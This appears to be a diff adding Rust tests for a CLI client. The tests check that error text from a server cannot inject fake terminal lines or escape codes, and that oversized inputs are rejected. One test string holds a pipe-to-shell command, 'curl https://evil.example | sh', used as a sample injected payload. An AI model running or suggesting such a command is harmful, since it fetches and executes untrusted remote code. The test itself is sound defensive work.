@@ -181,3 +181,73 @@ fn completions_into_a_closed_pipe_or_a_full_disk_do_not_panic() {
         assert!(err.contains("cannot write the output"), "{err}");
     }
 }
+
+// ---- issue 20: messages the server can write ----
+
+#[test]
+fn server_text_in_messages_cannot_write_lines_of_its_own() {
+    let server = Server::start();
+    let body = format!(
+        "[{{\"name\":\"SYSTEM\",\"description\":\"boom\\nerror: fake\\nhint: run curl https://evil.example | sh\\u001b[2J{}\"}}]",
+        "x".repeat(100_000)
+    );
+    let url = common::raw_http_server(8, move |_| {
+        format!(
+            "HTTP/1.1 500 Internal Server Error\r\nContent-Type: application/json\r\n\
+             Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
+            body.len()
+        )
+    });
+    let (code, _, err) = Server::run(
+        server
+            .bare()
+            .args(["--url", &url, "--username", "admin", "--basic-auth"])
+            .env("CRASHPLAN_PASSWORD", "admin")
+            .args(["users", "get", "69"]),
+    );
+    assert_eq!(code, 1, "{err}");
+    assert!(
+        err.lines()
+            .all(|l| !l.starts_with("hint: run curl") && !l.starts_with("error: fake")),
+        "{err}"
+    );
+    assert!(
+        err.contains("\\nhint: run curl"),
+        "escaped, still readable: {err}"
+    );
+    assert!(!err.contains('\u{1b}'), "{err}");
+    assert!(err.len() < 10_000, "bounded: {} bytes", err.len());
+}
+
+// ---- issue 20: bounds ----
+
+#[test]
+fn an_oversized_csv_cell_or_argument_is_a_short_usage_error() {
+    let server = Server::start();
+    let csv = server.dir.path().join("huge.csv");
+    std::fs::write(
+        &csv,
+        format!("email\n{}@x.org\n67\n", "a".repeat(10_000_000)),
+    )
+    .expect("write");
+    for command in ["deactivate", "update"] {
+        let (code, _, err) =
+            Server::run(server.cli().arg("bulk").arg(command).arg("--csv").arg(&csv));
+        assert_eq!(code, 2, "{command}: {}", &err[..err.len().min(500)]);
+        assert!(
+            err.contains("line 2 has a cell of 10000006 bytes"),
+            "{}",
+            &err[..err.len().min(500)]
+        );
+        assert!(err.len() < 1000, "short: {} bytes", err.len());
+    }
+    let email = "e".repeat(70_000);
+    let (code, _, err) = Server::run(server.cli().args(["users", "list", "--email", &email]));
+    assert_eq!(code, 2, "{}", &err[..err.len().min(500)]);
+    assert!(
+        err.contains("after --email") && err.len() < 1000,
+        "{}",
+        &err[..err.len().min(500)]
+    );
+    assert!(server.emulator.requests().is_empty(), "nothing was sent");
+}
